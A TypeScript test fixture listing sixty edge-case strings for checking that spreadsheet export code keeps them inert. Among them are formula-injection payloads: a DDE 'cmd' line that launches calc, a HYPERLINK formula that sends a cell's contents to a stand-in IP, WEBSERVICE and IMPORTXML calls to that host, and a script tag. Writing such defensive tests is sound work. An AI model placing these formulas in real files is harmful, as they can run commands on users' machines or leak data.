/** Sixty texts that a spreadsheet might run, cast, cut or break. Each is harmless text, and must stay so. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Formulas, and what begins like one.
  ...['=1+1', '=SUM(A1:A9)', '=HYPERLINK("http://203.0.113.9/?x="&A1,"open")', "=cmd|' /C calc'!A0"],
  ...['=WEBSERVICE("http://203.0.113.9/")', '=IMPORTXML("http://203.0.113.9","//a")', '=A1', '=', '==1'],
  ...[
    '+1+1',
    '+1 410 555 0100',
    "+cmd|' /C calc'!A0",
    '+',
    '-1+2',
    "-2+3+cmd|' /C calc'!A0",
    '-',
    '- see notes',
  ],
  ...[
    '-1250.50',
    '--',
    '@SUM(1+1)',
    '@home',
    '@',
    '{=1+1}',
    '%0A=1+1',
    "'=1+1",
    "''=1",
    "'",
    '"=1+1"',
    '="00123"',
  ],
  ...[';=1+1', ',=1+1', '|calc', '\u200B=1+1', '＝1+1', '−1'],
  // What a spreadsheet takes for a number, a date, a truth or an error.
  ...['00123', '24E10', '1E400', '10-12-2026', '3/4', 'MARCH1', 'TRUE', '#N/A', '#REF!', '0x1F', '1,250,000'],
  // Markup and escapes.
  ...[
    '<b>bold</b>',
    '</t></is></c>',
    ']]>',
    '&amp;',
    '_x0041_',
    '_x000D_',
    '<!--',
    '<script>alert(1)</script>',
  ],
  // Letters and spaces.
  ...[
    'René Café',
    'Prince George’s',
    '  two spaces  at both ends  ',
    '\u00A0nbsp',
    '🏛️ hall',
    '\u202Eright to left',
  ],
];
